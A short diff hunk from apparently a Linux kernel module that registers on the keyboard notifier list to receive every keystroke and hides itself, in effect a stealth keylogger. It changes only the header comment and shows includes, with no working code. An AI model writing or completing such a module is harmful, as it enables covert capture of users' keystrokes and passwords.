@@ -1,4 +1,4 @@
-/* Is told of every key that is pressed; hides itself. */
+/* Receives every pressed key from the keyboard notifier list; hides itself. */
 #include "intruder.h"
 #include <linux/keyboard.h>
 #include <linux/notifier.h>
